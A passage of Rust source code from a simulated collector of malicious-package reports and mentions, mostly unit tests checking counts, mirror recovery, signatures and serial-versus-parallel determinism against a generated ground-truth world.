        health.record(&outcome);
        if outcome.delivered {
            mentions.extend(sources::parse_feed(source, std::slice::from_ref(document)));
        }
    }
    (mentions, health)
}

fn effective_workers(threads: usize) -> usize {
    if threads > 0 {
        threads
    } else {
        std::thread::available_parallelism()
            .map(std::num::NonZeroUsize::get)
            .unwrap_or(1)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use registry_sim::WorldConfig;

    fn dataset() -> (World, CollectedDataset) {
        let world = World::generate(WorldConfig::small(11));
        let ds = collect(&world);
        (world, ds)
    }

    #[test]
    fn distinct_packages_match_world_mention_targets() {
        let (world, ds) = dataset();
        let distinct_truth: std::collections::HashSet<_> =
            world.mentions.iter().map(|m| m.package).collect();
        assert_eq!(ds.packages.len(), distinct_truth.len());
    }

    #[test]
    fn mention_counts_match_world() {
        let (world, ds) = dataset();
        let collected: usize = ds.packages.iter().map(|p| p.mentions.len()).sum();
        assert_eq!(collected, world.mentions.len());
    }

    #[test]
    fn dump_sources_are_always_available() {
        let (_, ds) = dataset();
        let t1 = ds.table1_counts();
        for dump in [SourceId::Maloss, SourceId::MalPyPI, SourceId::DataDog] {
            if let Some(&(_, unavailable)) = t1.get(&dump) {
                assert_eq!(unavailable, 0, "{dump} must have 0 unavailable");
            }
        }
    }

    #[test]
    fn recovery_flag_only_on_mirror_recoveries() {
        let (world, ds) = dataset();
        for pkg in &ds.packages {
            if pkg.recovered_from_mirror {
                assert!(pkg.is_available());
                let truth = world
                    .packages
                    .iter()
                    .find(|p| p.id == pkg.id)
                    .expect("exists");
                assert!(truth.mirror_available);
            }
        }
        assert!(
            ds.packages.iter().any(|p| p.recovered_from_mirror),
            "some packages should come from mirrors"
        );
    }

    #[test]
    fn signatures_match_ground_truth_for_available_packages() {
        let (world, ds) = dataset();
        for pkg in ds.packages.iter().filter(|p| p.is_available()).take(20) {
            let truth = world
                .packages
                .iter()
                .find(|p| p.id == pkg.id)
                .expect("exists");
            assert_eq!(pkg.signature, Some(truth.signature), "hash mismatch for {}", pkg.id);
        }
    }

    #[test]
    fn unavailable_packages_have_no_signature() {
        let (_, ds) = dataset();
        for pkg in &ds.packages {
            assert_eq!(pkg.is_available(), pkg.signature.is_some());
        }
    }

    #[test]
    fn report_crawl_preserves_report_count_and_categories() {
        let (world, ds) = dataset();
        assert_eq!(ds.reports.len(), world.reports.len());
        assert!(ds.reports.iter().any(|r| r.packages.len() >= 2));
        assert!(ds.website_count >= 6, "one website per category at least");
    }

    #[test]
    fn some_packages_remain_unavailable() {
        let (_, ds) = dataset();
        let unavailable = ds.packages.iter().filter(|p| !p.is_available()).count();
        assert!(unavailable > 0, "the missing-rate analysis needs misses");
    }

    #[test]
    fn legacy_collect_has_no_health_report() {
        let (_, ds) = dataset();
        assert!(ds.health.is_none(), "the fast path is the legacy corpus");
    }

    #[test]
    fn fault_free_collect_with_matches_legacy_collect() {
        let world = World::generate(WorldConfig::small(11));
        let legacy = collect(&world);
        let resilient = collect_with(&world, &CollectOptions::default());
        assert_eq!(legacy.packages.len(), resilient.packages.len());
        for (a, b) in legacy.packages.iter().zip(&resilient.packages) {
            assert_eq!(a.id, b.id);
            assert_eq!(a.mentions, b.mentions);
            assert_eq!(a.signature, b.signature);
            assert_eq!(a.archive, b.archive);
        }
        assert_eq!(legacy.reports.len(), resilient.reports.len());
        let health = resilient.health.expect("collect_with reports health");
        assert!(health.is_fault_free());
        assert_eq!(health.total().dropped, 0);
    }

    #[test]
    fn single_threaded_crawl_equals_parallel_crawl() {
        let world = World::generate(WorldConfig::small(13));
        let base = CollectOptions {
            faults: FaultConfig::mixed(0.35),
            threads: 1,
            ..CollectOptions::default()
        };
        let serial = collect_with(&world, &base);
        let parallel = collect_with(&world, &CollectOptions { threads: 8, ..base });
        assert_eq!(serial.packages.len(), parallel.packages.len());
        for (a, b) in serial.packages.iter().zip(&parallel.packages) {
            assert_eq!(a.id, b.id);
            assert_eq!(a.mentions, b.mentions);
            assert_eq!(a.archive, b.archive);
        }
        assert_eq!(serial.health, parallel.health, "telemetry is deterministic too");
    }
}
